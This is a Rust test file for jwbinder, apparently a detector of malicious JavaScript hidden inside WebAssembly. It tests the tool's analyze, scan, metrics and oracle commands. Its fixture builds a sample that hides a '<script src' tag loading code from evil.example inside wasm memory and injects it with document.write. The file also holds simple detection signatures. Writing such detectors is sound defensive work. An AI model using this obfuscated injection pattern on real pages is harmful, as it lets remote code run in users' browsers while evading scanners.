use std::path::Path;
use std::process::{Command, Output};

const FIG1_WAT: &str = r#"(module
  (import "env" "write" (func $write (param i32)))
  (memory 1)
  (data (i32.const 0) "<script src=\"http://evil.example/a.js\"></script>\00")
  (data (i32.const 64) "\00\00\00\00")
  (func (export "foo") (local $i i32)
    (block $done (loop $next
      (br_if $done (i32.ge_u (local.get $i) (i32.const 1)))
      (call $write (i32.load (i32.add (i32.const 64) (i32.mul (local.get $i) (i32.const 4)))))
      (local.set $i (i32.add (local.get $i) (i32.const 1)))
      (br $next)))))"#;

fn jwbinder(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_jwbinder"))
        .args(args)
        .output()
        .unwrap()
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn corpus(dir: &Path) {
    let bytes: Vec<String> = wat::parse_str(FIG1_WAT)
        .unwrap()
        .iter()
        .map(u8::to_string)
        .collect();
    std::fs::write(
        dir.join("sample.js"),
        format!(
            "const m = new WebAssembly.Module(new Uint8Array([{}]));\n\
             const i = new WebAssembly.Instance(m, {{ env: {{ write: document.write }} }});\n\
             i.exports.foo();\n",
            bytes.join(",")
        ),
    )
    .unwrap();
    std::fs::write(dir.join("plain.js"), "let a = 1 + 2;\n").unwrap();
}

#[test]
fn analyze_scan_metrics_round_trip() {
    let tmp = tempfile::tempdir().unwrap();
    let (input, out, assets) = (
        tmp.path().join("in"),
        tmp.path().join("out"),
        tmp.path().join("assets"),
    );
    std::fs::create_dir_all(&input).unwrap();
    std::fs::create_dir_all(&assets).unwrap();
    corpus(&input);
    let sig_a = tmp.path().join("a.json");
    let sig_b = tmp.path().join("b.json");
    std::fs::write(
        &sig_a,
        r#"[{"id": "w", "strings": ["document.write", "<script src="]}]"#,
    )
    .unwrap();
    std::fs::write(&sig_b, r#"[{"id": "p", "strings": ["<script src="]}]"#).unwrap();

    let o = jwbinder(&[
        "analyze",
        s(&input),
        "--out-dir",
        s(&out),
        "--assets-dir",
        s(&assets),
        "--parallelism",
        "2",
        "--signatures",
        s(&sig_a),
        "--signatures",
        s(&sig_b),
        "--dump-pdg",
    ]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    for f in [
        "sample.code.js",
        "sample.data.js",
        "sample.all.js",
        "plain.all.js",
        "sample.pdg.dot",
    ] {
        assert!(out.join(f).exists(), "{f}");
    }
    let report = std::fs::read_to_string(out.join("report.jsonl")).unwrap();
    let lines: Vec<serde_json::Value> = report
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(lines[0]["schema"], "jwbinder-report");
    assert_eq!(lines[1]["file"], "plain.js");
    assert_eq!(lines[2]["file"], "sample.js");
    assert_eq!(lines[2]["verdicts"]["baseline"]["a"], false);
    assert_eq!(lines[2]["verdicts"]["all"]["a"], true);
    assert!(lines[2]["timings"]["ssr_seconds"].as_f64().unwrap() >= 0.0);

    let m = jwbinder(&[
        "metrics",
        s(&out.join("report.jsonl")),
        "--threshold",
        "2",
        "--json",
    ]);
    assert!(m.status.success());
    let metrics: serde_json::Value = serde_json::from_slice(&m.stdout).unwrap();
    assert_eq!(metrics["baseline"]["detected"], 0);
    assert_eq!(metrics["all"]["detected"], 1);
    assert_eq!(metrics["all"]["sdr"], 0.5);

    std::fs::copy(input.join("sample.js"), out.join("sample.js")).unwrap();
    let scan_report = tmp.path().join("scan.jsonl");
    let sc = jwbinder(&[
        "scan",
        s(&out),
        "--signatures",
        s(&sig_b),
        "--report",
        s(&scan_report),
    ]);
    assert!(
        sc.status.success(),
        "{}",
        String::from_utf8_lossy(&sc.stderr)
    );
    let text = std::fs::read_to_string(&scan_report).unwrap();
    assert!(text.contains("\"data\":{\"b\":true}"), "{text}");
    assert!(text.contains("\"baseline\":{\"b\":false}"), "{text}");
}

#[test]
fn configuration_errors_exit_with_two() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    let base = [
        "analyze",
        s(tmp.path()),
        "--out-dir",
        s(&out),
        "--assets-dir",
        s(tmp.path()),
    ];
    let zero = jwbinder(&[&base[..], &["--timeout", "0"]].concat());
    assert_eq!(zero.status.code(), Some(2));
    let bad = tmp.path().join("bad.json");
    std::fs::write(&bad, "{").unwrap();
    let sig = jwbinder(&[&base[..], &["--signatures", s(&bad)]].concat());
    assert_eq!(sig.status.code(), Some(2));
    let net = jwbinder(&[&base[..], &["--endpoint", "http://127.0.0.1:9"]].concat());
    assert_eq!(net.status.code(), Some(2));
    let mode = jwbinder(&[&base[..], &["--mode", "bogus"]].concat());
    assert_eq!(mode.status.code(), Some(2));
}

#[test]
fn unparseable_input_is_a_partial_failure() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    std::fs::create_dir_all(&input).unwrap();
    std::fs::write(input.join("bad.js"), "class A {}").unwrap();
    std::fs::write(input.join("ok.js"), "f();").unwrap();
    let out = tmp.path().join("out");
    let o = jwbinder(&[
        "analyze",
        s(&input),
        "--out-dir",
        s(&out),
        "--assets-dir",
        s(&input),
    ]);
    assert_eq!(o.status.code(), Some(1));
    let report = std::fs::read_to_string(out.join("report.jsonl")).unwrap();
    assert!(report.contains("\"kind\":\"unparseable\""));
    assert!(out.join("ok.code.js").exists());
}

#[test]
fn oracle_runs_a_fixture() {
    let tmp = tempfile::tempdir().unwrap();
    let wasm = tmp.path().join("add.wasm");
    std::fs::write(
        &wasm,
        wat::parse_str(
            "(module (func (param i32 i32) (result i32) (i32.add (local.get 0) (local.get 1))))",
        )
        .unwrap(),
    )
    .unwrap();
    let o = jwbinder(&["oracle", s(&wasm), "--func", "0", "--args", "3", "i32:4"]);
    assert!(o.status.success());
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(stdout.contains("result: i32:7"), "{stdout}");
    assert!(stdout.contains("abstraction: agrees"));
    let bad = jwbinder(&["oracle", s(&wasm), "--func", "0", "--args", "3"]);
    assert_eq!(bad.status.code(), Some(2));

    let f = tmp.path().join("fig1.wasm");
    std::fs::write(&f, wat::parse_str(FIG1_WAT).unwrap()).unwrap();
    let o = jwbinder(&["oracle", s(&f), "--func", "1"]);
    let stdout = String::from_utf8_lossy(&o.stdout);
    assert!(
        stdout.contains("call IMPORT_0(i32:0) \"<script src="),
        "{stdout}"
    );
}
